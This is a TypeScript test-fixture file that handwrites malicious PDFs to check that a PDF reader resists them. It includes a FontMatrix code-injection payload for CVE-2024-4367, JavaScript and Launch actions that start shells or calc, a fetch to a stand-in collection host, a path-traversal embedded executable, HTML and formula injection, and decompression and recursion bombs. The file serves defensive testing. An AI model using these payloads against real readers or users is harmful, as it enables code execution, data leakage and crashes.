// PDFs made to hurt: one for each lesson that PDF readers had to learn. Written by hand, so that nothing tidies them.
import { deflateSync } from 'node:zlib';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** What must come of it, where that is known. */
  readonly expected?: 'text';
}

/** What a script would do that got to run, in a page or in a worker: `hostile-trap.ts` hears it. */
export const scriptThatTells = `new BroadcastChannel('hostile-trap').postMessage('a script ran')`;
const scriptThatCalls = `fetch('https://hostile.invalid/collect')`;
const telling = `${scriptThatTells};${scriptThatCalls}`;

const textPage = pageOf();
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** `full` adds what takes long or much memory. */
export function hostilePdfs(full: boolean): readonly HostileFile[] {
  const bomb = (megabytes: number): Buffer =>
    packed(deflateSync(Buffer.alloc(megabytes * 2 ** 20, 'BT (x) Tj ET ')));
  const nested = deflateSync(deflateSync(Buffer.alloc(64 * 2 ** 20, ' ')));
  const files: Readonly<Record<string, readonly (string | Buffer)[] | Buffer>> = {
    'font-matrix-code.pdf': fontWithMatrix(`[1 2 3 4 5 (0\\); ${telling}; \\(0)]`),
    'font-matrix-names.pdf': fontWithMatrix(`[0.001 0 0 0.001 (${scriptThatTells}) 0]`),
    'open-action-javascript.pdf': withCatalog(
      `/OpenAction << /S /JavaScript /JS (${escaped(telling)}) >>`,
    ),
    'open-action-uri.pdf': withCatalog(
      '/OpenAction << /S /URI /URI (https://hostile.invalid/open) >>',
    ),
    'open-action-launch.pdf': withCatalog(
      '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    ),
    'open-action-remote.pdf': withCatalog(
      '/OpenAction << /S /GoToR /F (\\\\\\\\hostile.invalid\\\\share\\\\x.pdf) /D [0 /Fit] >>',
    ),
    'additional-actions.pdf': withCatalog(
      `/AA << /WC << /S /JavaScript /JS (${escaped(telling)}) >> /DC << /S /URI /URI (https://hostile.invalid/) >> >>`,
    ),
    'named-javascript.pdf': withCatalog(
      `/Names << /JavaScript << /Names [(run) << /S /JavaScript /JS (${escaped(telling)}) >>] >> >>`,
    ),
    'embedded-file.pdf': withCatalog(
      '/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (../../evil.exe) /EF << /F 6 0 R >> >>] >> >>',
      [stream(Buffer.from('MZ this is a program'), '/Type /EmbeddedFile')],
    ),
    'xfa.pdf': withCatalog('/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true', [
      stream(
        Buffer.from(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform name="a"><event activity="initialize"><script contentType="application/x-javascript">${telling}</script></event><field name="b"><ui><imageEdit/></ui><value><image href="https://hostile.invalid/x.png"/></value></field></subform></template></xdp:xdp>`,
        ),
      ),
    ]),
    'form-that-submits.pdf': withCatalog(
      '/AcroForm << /Fields [6 0 R] /NeedAppearances true >>',
      [
        `<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 595 842] /A << /S /SubmitForm /F << /FS /URL /F (https://hostile.invalid/form) >> /Flags 4 >> /AA << /E << /S /JavaScript /JS (${escaped(telling)}) >> >> >>`,
      ],
      '/Annots [6 0 R]',
    ),
    'link-javascript.pdf': withCatalog(
      '',
      [
        `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:${escaped(telling)}) >> >>`,
      ],
      '/Annots [6 0 R]',
    ),
    'rich-media.pdf': withCatalog(
      '',
      [
        '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [(x.swf) << /F (https://hostile.invalid/x.swf) /FS /URL >>] >> >> >>',
      ],
      '/Annots [6 0 R]',
    ),
    'free-text-html.pdf': withCatalog(
      '',
      [
        `<< /Type /Annot /Subtype /FreeText /Rect [0 0 300 300] /Contents (<script>${escaped(telling)}</script>) /RC (<body><img src="https://hostile.invalid/x.png" onerror="${escaped(telling)}"/></body>) /DA (/F 12 Tf) >>`,
      ],
      '/Annots [6 0 R]',
    ),
    'title-with-markup.pdf': assemble(
      [...plain()],
      `/Info << /Title (<img src=x onerror="${escaped(telling)}">) /Author (=cmd\\|'/c calc'!A1) >> `,
    ),
    'external-stream.pdf': [
      ...plain().slice(0, 4),
      '<< /Length 0 /F << /FS /URL /F (https://hostile.invalid/content) >> >>\nstream\n\nendstream',
    ],
    'page-tree-cycle.pdf': [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 >>',
      '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 4 >>',
    ],
    'page-tree-deep.pdf': deepTree(20_000),
    'hundred-thousand-pages.pdf': manyPages(100_000),
    'a-billion-pages-claimed.pdf': [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>',
      `<< /Type /Page /Parent 2 0 R ${textPage} >>`,
      font,
      content('BT /F 12 Tf (x) Tj ET'),
    ],
    'outline-cycle.pdf': withCatalog('/Outlines 6 0 R', [
      '<< /First 7 0 R /Last 7 0 R /Count 1 >>',
      '<< /Title (round) /Parent 6 0 R /First 7 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>',
    ]),
    'page-labels-cycle.pdf': withCatalog('/PageLabels 6 0 R', ['<< /Kids [6 0 R 6 0 R] >>']),
    'name-tree-cycle.pdf': withCatalog('/Names << /Dests 6 0 R >>', [
      '<< /Kids [6 0 R 6 0 R 6 0 R] /Limits [(a) (z)] >>',
    ]),
    'form-calls-itself.pdf': withCatalog(
      '',
      [
        stream(
          Buffer.from('/X Do /X Do'),
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
        ),
      ],
      '',
      '/X Do',
      '/XObject << /X 6 0 R >>',
    ),
    'pattern-calls-itself.pdf': withCatalog(
      '',
      [
        stream(
          Buffer.from('/Pattern cs /P scn 0 0 9 9 re f'),
          '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 6 0 R >> >>',
        ),
      ],
      '',
      '/Pattern cs /P scn 0 0 595 842 re f',
      '/Pattern << /P 6 0 R >>',
    ),
    'content-bomb.pdf': withContent(bomb(full ? 512 : 32)),
    'content-bomb-twice.pdf': withContent(packed(nested, '[/FlateDecode /FlateDecode]')),
    'object-stream-bomb.pdf': [
      ...plain(),
      packed(
        deflateSync(Buffer.alloc((full ? 256 : 16) * 2 ** 20, '9 0 ')),
        '/FlateDecode',
        '/Type /ObjStm /N 99999999 /First 8',
      ),
    ],
    'object-stream-cycle.pdf': [
      ...plain(),
      stream(Buffer.from('6 0 << >>'), '/Type /ObjStm /N 1 /First 4 /Extends 6 0 R'),
    ],
    'image-enormous.pdf': withCatalog(
      '',
      [
        packed(
          deflateSync(Buffer.alloc(2 ** 20)),
          '/FlateDecode',
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8',
        ),
      ],
      '',
      'q 595 0 0 842 0 0 cm /I Do Q',
      '/XObject << /I 6 0 R >>',
    ),
    'image-negative.pdf': withCatalog(
      '',
      [
        stream(
          Buffer.alloc(9),
          '/Type /XObject /Subtype /Image /Width -5 /Height 2147483647 /ColorSpace /DeviceGray /BitsPerComponent 16',
        ),
      ],
      '',
      '/I Do',
      '/XObject << /I 6 0 R >>',
    ),
    'jpeg-2000-nonsense.pdf': withCatalog(
      '',
      [
        stream(
          Buffer.from('ff4fff51002f00000000ffffffffffff', 'hex'),
          '/Type /XObject /Subtype /Image /Width 9 /Height 9 /Filter /JPXDecode',
        ),
      ],
      '',
      '/I Do',
      '/XObject << /I 6 0 R >>',
    ),
    'jbig2-nonsense.pdf': withCatalog(
      '',
      [
        stream(
          Buffer.from('0000000030000100000013ffffffffffffffff000000000000000000', 'hex'),
          '/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 1 /Filter /JBIG2Decode',
        ),
      ],
      '',
      '/I Do',
      '/XObject << /I 6 0 R >>',
    ),
    'page-enormous.pdf': assemble(plain('/MediaBox [0 0 100000000 100000000]')),
    'page-of-no-size.pdf': assemble(plain('/MediaBox [0 0 0 0]')),
    'page-of-nan.pdf': assemble(plain('/MediaBox [0 0 1e999 -1e999] /UserUnit 1e30')),
    'arrays-nested.pdf': withCatalog(`/Nested ${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    'dictionaries-nested.pdf': withCatalog(
      `/Nested ${'<< /A '.repeat(50_000)}1${' >>'.repeat(50_000)}`,
    ),
    'brackets-in-content.pdf': withContent(
      Buffer.from(content(`${'('.repeat(200_000)} ${'['.repeat(200_000)}`)),
    ),
    'saves-unrestored.pdf': withContent(
      Buffer.from(content(`${'q '.repeat(300_000)}BT /F 12 Tf (deep) Tj ET`)),
    ),
    'text-operators-many.pdf': withContent(
      Buffer.from(content(`BT /F 1 Tf ${'(a) Tj '.repeat(full ? 1_000_000 : 100_000)} ET`)),
    ),
    'length-lies.pdf': withContent(
      Buffer.from('<< /Length 999999999 >>\nstream\nBT (x) Tj ET\nendstream'),
    ),
    'length-refers-to-itself.pdf': withContent(
      Buffer.from('<< /Length 5 0 R >>\nstream\nBT (x) Tj ET\nendstream'),
    ),
    'xref-loop.pdf': Buffer.from(
      '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n',
    ),
    'xref-huge.pdf': Buffer.from(
      '%PDF-1.7\nxref\n0 4294967295\ntrailer\n<< /Size 4294967295 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n',
    ),
    'no-xref.pdf': Buffer.from(
      assemble(plain())
        .toString('latin1')
        .replace(/xref[\s\S]*/, ''),
      'latin1',
    ),
    'to-unicode-huge.pdf': withToUnicode('1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange'),
    'to-unicode-markup.pdf': withToUnicode(
      '1 beginbfchar <41> <003C007300630072006900700074003E> endbfchar',
    ),
    'cmap-uses-itself.pdf': withToUnicode('/Self usecmap'),
    'only-a-header.pdf': Buffer.from('%PDF-1.7\n'),
    'html-inside.pdf': Buffer.concat([
      Buffer.from(`<html><script>${telling}</script>\n`),
      assemble(plain()),
    ]),
    'zip-behind.pdf': Buffer.concat([
      assemble(plain()),
      Buffer.from('504b0304140000000000000000000000', 'hex'),
      Buffer.from('504b05060000000000000000000000000000000000', 'hex'),
    ]),
  };
  return Object.entries(files).map(([name, made]) => ({
    name,
    bytes: Buffer.isBuffer(made) ? made : assemble(made),
  }));
}

function escaped(text: string): string {
  return text.replace(/[\\()]/g, (sign) => `\\${sign}`);
}

function pageOf(resources = ''): string {
  return `/MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F 4 0 R >> ${resources} >>`;
}

function content(operators: string): string {
  return `<< /Length ${String(operators.length)} >>\nstream\n${operators}\nendstream`;
}

function stream(bytes: Buffer, entries = ''): Buffer {
  return Buffer.concat([
    Buffer.from(`<< /Length ${String(bytes.length)} ${entries} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

function packed(bytes: Buffer, filter = '/FlateDecode', entries = ''): Buffer {
  return stream(bytes, `/Filter ${filter} ${entries}`);
}

const says = 'BT /F 12 Tf 60 780 Td (A page that says what it says and no more.) Tj ET';

/** One page with text: 1 catalog, 2 pages, 3 page, 4 font, 5 content. */
function plain(page = ''): string[] {
  return withCatalog('', [], page) as string[];
}

function withCatalog(
  catalog: string,
  more: readonly (string | Buffer)[] = [],
  page = '',
  operators = '',
  resources = '',
): (string | Buffer)[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R ${pageOf(resources)} ${page} >>`,
    font,
    content(`${says} ${operators}`),
    ...more,
  ];
}

function withContent(contents: Buffer): (string | Buffer)[] {
  return [...plain().slice(0, 4), contents];
}

/** CVE-2024-4367: what stands in a matrix for numbers was compiled as code. */
function fontWithMatrix(matrix: string): (string | Buffer)[] {
  const [catalog = '', pages = '', page = '', , text = ''] = plain();
  return [
    catalog,
    pages,
    page,
    `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix ${matrix} /FirstChar 32 /LastChar 126 /Widths [${'500 '.repeat(95)}] /Encoding << /Differences [65 /A] >> /CharProcs << /A 6 0 R >> /Resources << >> >>`,
    text,
    content('500 0 0 0 500 500 d1 0 0 500 500 re f'),
  ];
}

function withToUnicode(map: string): (string | Buffer)[] {
  const [catalog = '', pages = '', page = '', , text = ''] = plain();
  return [
    catalog,
    pages,
    page,
    '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /DW 1000 >>] >>',
    text,
    content(
      `/CIDInit /ProcSet findresource begin begincmap /CMapName /Self def 1 begincodespacerange <0000> <FFFF> endcodespacerange ${map} endcmap end`,
    ),
  ];
}

function deepTree(depth: number): string[] {
  const nodes = Array.from(
    { length: depth },
    (_, i) => `<< /Type /Pages /Kids [${String(i + 3)} 0 R] /Count 1 >>`,
  );
  return ['<< /Type /Catalog /Pages 2 0 R >>', ...nodes, '<< /Type /Page /MediaBox [0 0 9 9] >>'];
}

function manyPages(count: number): string[] {
  return [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${String(count)} >>`,
    `<< /Type /Page /Parent 2 0 R ${textPage} >>`,
    font,
    content(says),
  ];
}

/** A file of these objects, numbered from 1, with a cross-reference table that is right. */
export function assemble(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let at = 9;
  const entries: string[] = [];
  const put = (part: Buffer): void => {
    parts.push(part);
    at += part.length;
  };
  for (const [index, object] of objects.entries()) {
    entries.push(`${String(at).padStart(10, '0')} 00000 n \n`);
    put(Buffer.from(`${String(index + 1)} 0 obj\n`));
    put(typeof object === 'string' ? Buffer.from(object, 'latin1') : object);
    put(Buffer.from('\nendobj\n'));
  }
  const size = String(objects.length + 1);
  put(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${entries.join('')}trailer\n<< ${trailer}/Size ${size} /Root 1 0 R >>\nstartxref\n${String(at)}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}
